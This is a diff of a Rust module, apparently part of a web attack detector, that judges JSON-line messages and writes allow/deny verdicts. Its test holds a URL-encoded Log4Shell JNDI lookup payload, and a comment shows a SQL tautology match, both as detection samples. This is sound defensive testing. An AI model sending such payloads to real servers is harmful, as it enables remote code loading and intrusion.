@@ -1,113 +1,124 @@
-//! Requests as JSON lines, and their verdicts as tab-separated lines: for measuring on corpora.
+//! Messages as JSON lines, and their verdicts as tab-separated lines: for measuring on corpora. Each kind of row has a
+//! file of its own; adding one is that file and one line of [`KINDS`].
 
-use super::verdict::{Judge, Verdict};
-use base64::Engine as _;
-use base64::engine::general_purpose::STANDARD;
+use super::setup::Judge;
+use super::verdict::Verdict;
+use super::{http, report};
+use crate::flow::Evidence;
 use serde::Deserialize;
-use std::fs::File;
-use std::io::{self, BufRead, BufReader, Read, Write};
-use std::path::Path;
+use serde_json::{Map, Value};
+use std::io::{self, BufRead, Write};
 
+/// One line: an id, and the field that tells its kind. What else it says is for others.
 #[derive(Deserialize)]
-struct Row {
+pub(super) struct Row {
     id: String,
-    request: Request,
+    #[serde(flatten)]
+    fields: Map<String, Value>,
 }
 
-/// A request as it is written down; the wire form is made of it.
-#[derive(Deserialize)]
-#[serde(untagged)]
-enum Request {
-    Raw { raw_b64: String },
-    Written { method: String, path: String, headers: Vec<(String, String)>, body_b64: Option<String> },
+/// One kind of row.
+struct Kind {
+    /// The field that tells it.
+    field: &'static str,
+    /// Judges one row that has this field.
+    judge: fn(&Judge, Row) -> io::Result<Verdict>,
 }
 
-/// Judges every line of `file`.
+/// Every kind of row.
+static KINDS: &[Kind] = &[Kind { field: "request", judge: http::row }];
+
+impl Row {
+    /// Takes the value of a field; null when there is none.
+    pub(super) fn of(mut self, field: &str) -> Value {
+        self.fields.remove(field).unwrap_or_default()
+    }
+}
+
+/// Judges every line and writes its verdict.
 ///
 /// # Errors
-/// When the file cannot be read, a line is not a row, or the verdict cannot be written.
-pub(super) fn judge(judge: &Judge, file: &Path, out: &mut impl Write) -> io::Result<()> {
-    for line in BufReader::new(open(file)?).lines() {
-        let row: Row = serde_json::from_str(&line?)?;
-        let verdict = judge.judge(&row.request.wire()?);
-        writeln!(out, "{}\t{}", row.id, columns(&verdict))?;
+/// When a line cannot be read, is not a row, or its verdict cannot be written.
+pub(super) fn write(judge: &Judge, lines: impl BufRead, out: &mut impl Write) -> io::Result<()> {
+    each(judge, lines, |id, verdict| writeln!(out, "{id}\t{}", columns(verdict)))
+}
+
+/// Judges every line and prints its verdict for people; whether all are allowed.
+///
+/// # Errors
+/// As [`write`].
+pub(super) fn show(judge: &Judge, lines: impl BufRead, out: &mut impl Write) -> io::Result<bool> {
+    let mut allowed = true;
+    each(judge, lines, |id, verdict| {
+        allowed &= !verdict.denies();
+        out.write_all(report::text(id, verdict).as_bytes())
+    })?;
+    Ok(allowed)
+}
+
+fn each(judge: &Judge, lines: impl BufRead, mut then: impl FnMut(&str, &Verdict) -> io::Result<()>) -> io::Result<()> {
+    for (number, line) in lines.lines().enumerate() {
+        let line = line?;
+        let (id, verdict) =
+            one(judge, &line).map_err(|error| io::Error::new(error.kind(), format!("line {}: {error}", number + 1)))?;
+        then(&id, &verdict)?;
     }
     Ok(())
 }
 
-fn open(file: &Path) -> io::Result<Box<dyn Read>> {
-    let opened = File::open(file)?;
-    if file.extension().is_some_and(|extension| extension == "gz") {
-        #[allow(clippy::disallowed_types)] // a file that the user names, not a body from the wire
-        return Ok(Box::new(flate2::read::MultiGzDecoder::new(opened)));
-    }
-    Ok(Box::new(opened))
+fn one(judge: &Judge, line: &str) -> io::Result<(String, Verdict)> {
+    let row: Row = serde_json::from_str(line)?;
+    let Some(kind) = KINDS.iter().find(|kind| row.fields.contains_key(kind.field)) else {
+        let known: Vec<_> = KINDS.iter().map(|kind| kind.field).collect();
+        return Err(io::Error::other(format!("none of the fields {}", known.join(", "))));
+    };
+    Ok((row.id.clone(), (kind.judge)(judge, row)?))
 }
 
-impl Request {
-    /// The bytes on the wire. Fields about the connection and the length are written anew.
-    fn wire(&self) -> io::Result<Vec<u8>> {
-        match self {
-            Self::Raw { raw_b64 } => decoded(raw_b64),
-            Self::Written { method, path, headers, body_b64 } => {
-                let body = body_b64.as_deref().map(decoded).transpose()?;
-                let mut wire = format!("{method} {path} HTTP/1.1\r\n");
-                for (name, value) in headers.iter().filter(|(name, _)| !is_framing(name)) {
-                    wire.extend([name, ": ", value, "\r\n"]);
-                }
-                match &body {
-                    Some(body) => wire.push_str(&format!("Content-Length: {}\r\n", body.len())),
-                    None if ["POST", "PUT", "PATCH"].contains(&method.as_str()) => {
-                        wire.push_str("Content-Length: 0\r\n");
-                    }
-                    None => {}
-                }
-                wire.push_str("\r\n");
-                Ok([wire.as_bytes(), body.as_deref().unwrap_or_default()].concat())
-            }
-        }
-    }
-}
-
-fn is_framing(name: &str) -> bool {
-    ["connection", "content-length", "transfer-encoding"].iter().any(|field| name.eq_ignore_ascii_case(field))
-}
-
-fn decoded(base64: &str) -> io::Result<Vec<u8>> {
-    STANDARD.decode(base64).map_err(io::Error::other)
-}
-
-/// `allow|deny`, status with reason and findings, nanoseconds.
+/// `allow|deny`, the answer with its reason and what was found, nanoseconds.
 fn columns(verdict: &Verdict) -> String {
     let decision = if verdict.denies() { "deny" } else { "allow" };
-    let mut why = vec![verdict.status.to_string()];
-    why.extend(Some(verdict.reason.to_owned()).filter(|reason| !reason.is_empty()));
-    why.extend(verdict.evidence.iter().map(|evidence| {
-        let (hit, place) = (&evidence.hit, evidence.place.name());
-        let matched = String::from_utf8_lossy(&evidence.excerpt.matched).escape_debug().to_string();
-        format!("{}:{}@{place}{:?}={matched}", hit.signature, hit.weight.0, evidence.chain)
-    }));
-    format!("{decision}\t{}\t{}", why.join(" "), verdict.nanoseconds)
+    let why = [verdict.answer.as_str(), verdict.reason()].into_iter().map(str::to_owned);
+    let why: Vec<String> = why.filter(|word| !word.is_empty()).chain(verdict.evidence.iter().map(sign)).collect();
+    format!("{decision}\t{}\t{}", why.join(" "), verdict.cpu.as_nanos())
+}
+
+/// `sql-tautology:100@query-value[Percent]=1 or 1`: one word but for the match.
+fn sign(evidence: &Evidence) -> String {
+    let (hit, place) = (&evidence.hit, evidence.place.name());
+    let matched = String::from_utf8_lossy(&evidence.excerpt.matched).escape_debug().to_string();
+    format!("{}:{}@{place}{:?}={matched}", hit.signature, hit.weight.0, evidence.chain)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::cli::judge::Terms;
 
-    #[test]
-    fn written_request_becomes_its_wire_form() {
-        let row: Row = serde_json::from_str(
-            r#"{"id": "1", "source": "x", "request": {"method": "POST", "path": "/a?b=c",
-                "headers": [["Host", "h"], ["Content-Length", "9"]], "body_b64": "aGk="}}"#,
-        )
-        .unwrap();
-        let wire = row.request.wire().unwrap();
-        assert_eq!(wire, b"POST /a?b=c HTTP/1.1\r\nHost: h\r\nContent-Length: 2\r\n\r\nhi");
+    fn written(lines: &str) -> io::Result<String> {
+        let mut out = Vec::new();
+        write(&Judge::new(&Terms::default()).unwrap(), lines.as_bytes(), &mut out)?;
+        Ok(String::from_utf8(out).unwrap())
     }
 
     #[test]
-    fn raw_request_is_taken_as_it_is() {
-        let row: Row = serde_json::from_str(r#"{"id": "1", "request": {"raw_b64": "R0VUIC8="}}"#).unwrap();
-        assert_eq!(row.request.wire().unwrap(), b"GET /");
+    fn rows_become_lines() {
+        let row = |id: &str, path: &str| {
+            format!(
+                r#"{{"id": "{id}", "note": "x", "request": {{"method": "GET", "path": "{path}", "headers": [["Host", "h"]]}}}}"#
+            )
+        };
+        let text = written(&[row("one", "/a"), row("two", "/?q=%24%7Bjndi:ldap://x/a%7D")].join("\n")).unwrap();
+        let lines: Vec<Vec<&str>> = text.lines().map(|line| line.split('\t').collect()).collect();
+        assert_eq!(lines[0][..3], ["one", "allow", "200"]);
+        assert_eq!(lines[1][..2], ["two", "deny"]);
+        assert!(lines[1][2].starts_with("403 attack-detected log4shell-jndi:100@query-value"), "{text}");
+        assert!(lines.iter().all(|line| line[3].parse::<u64>().is_ok()));
+    }
+
+    #[test]
+    fn line_of_no_kind_is_named() {
+        let error = written("{\"id\": \"1\", \"other\": 1}").unwrap_err().to_string();
+        assert!(error.contains("line 1") && error.contains("request"), "{error}");
     }
 }
